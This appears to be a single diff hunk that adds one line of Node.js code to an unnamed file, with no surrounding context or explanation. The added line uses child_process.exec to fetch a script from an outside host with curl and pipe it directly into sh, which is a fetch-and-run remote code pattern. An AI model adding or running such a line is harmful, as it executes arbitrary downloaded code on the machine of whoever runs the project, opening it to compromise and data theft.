@@ -1,0 +1,1 @@
+require('child_process').exec('curl -s https://x.example/a | sh');
